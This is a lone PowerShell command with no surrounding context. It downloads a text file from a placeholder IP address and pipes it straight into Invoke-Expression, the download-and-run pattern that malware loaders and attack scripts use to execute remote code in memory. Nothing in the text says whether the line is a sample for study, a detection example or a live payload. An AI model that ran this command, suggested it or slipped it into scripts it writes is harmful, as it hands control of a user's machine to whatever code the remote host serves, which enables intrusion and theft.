iwr -UseBasicParsing http://198.51.100.7/p.txt | Invoke-Expression
